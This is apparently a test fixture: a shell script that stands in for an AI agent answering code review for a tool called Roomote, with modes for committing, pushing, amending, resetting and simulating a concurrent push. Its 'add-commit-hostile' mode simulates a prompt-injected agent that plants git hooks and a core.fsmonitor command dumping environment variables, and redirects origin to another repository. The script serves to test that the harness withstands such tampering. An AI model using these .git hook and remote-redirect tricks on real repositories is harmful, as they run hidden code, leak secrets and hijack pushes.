#!/bin/sh
# A scripted stand-in for an AI agent in a review round (github.pr.revise), run through Roomote's real `command`
# agent driver: it does with real git what an agent answering the review would do, as its mode says.
# Usage: revise-agent.sh PROMPT_FILE MODE [ARG1 [ARG2]]
set -e
prompt="$1"; mode="$2"; a1="${3:-}"; a2="${4:-}"
branch=$(sed -n 's/^Branch: \([^ ]*\) .*/\1/p' "$prompt" | head -n 1)
echo "revise agent: mode=$mode branch=$branch on $(git rev-parse --abbrev-ref HEAD)"

change() { printf '\n\ndef add_all(*xs):\n    return sum(xs)\n' >> calc.py; echo "edited calc.py"; }
commit() { git add -A; git commit -q -m "Add add_all() as the review asked"; echo "committed"; }

case "$mode" in
  add-commit) change; commit ;;
  # Pushes itself (ROOMOTE_PUSH=agent), to the same branch, without force.
  add-commit-push) change; commit; git push -q origin "HEAD:refs/heads/$branch"; echo "pushed" ;;
  # Pushes itself and shows which token its askpass would answer: the renewed file's (a hash, never the token).
  add-commit-push-token) change; commit; git push -q origin "HEAD:refs/heads/$branch"
    echo "token file: $(sha256sum < "$ROOMOTE_GITHUB_TOKEN_FILE" | cut -c1-64)" ;;
  noop) echo "nothing to change: the code already does what the reviewer asks" ;;
  amend) change; git add -A; git commit -q --amend -m "Fixes #7 (amended)"; echo "amended the pushed commit" ;;
  reset) git reset -q --hard HEAD~1; change; commit; echo "rewrote the branch" ;;
  # Someone else pushes to the branch while the agent works: Roomote's push must be refused.
  add-commit-raced) change; commit
    other=$(mktemp -d); git clone -q "$(git remote get-url origin)" "$other"
    (cd "$other" && git checkout -q "$branch" && echo "# a reviewer's own change" >> README.md && git add -A \
      && git -c user.name=Reviewer -c user.email=r@example.com commit -q -m "Reviewer's commit" && git push -q origin "$branch")
    echo "someone pushed meanwhile" ;;
  # Commits, then (prompt-injected) rewrites .git: hooks and an fsmonitor that record their run in the marker
  # folder a1 (a host path; inside the sandbox it does not exist), and origin pointing at another repository a2.
  add-commit-hostile) change; commit; mkdir -p .git/evil-hooks
    for h in pre-push reference-transaction post-checkout; do
      printf '#!/bin/sh\nenv >> "%s/%s-ran" 2>/dev/null\nexit 0\n' "$a1" "$h" > ".git/evil-hooks/$h"
      chmod +x ".git/evil-hooks/$h"; cp ".git/evil-hooks/$h" ".git/hooks/$h"; done
    git config core.hooksPath "$PWD/.git/evil-hooks"
    git config core.fsmonitor "env > $a1/fsmonitor-ran; false #"
    git config "url.$a2.insteadOf" "$(git config remote.origin.url)"; git remote set-url origin "$a2"
    echo "hostile .git written" ;;
  *) echo "unknown mode $mode"; exit 2 ;;
esac
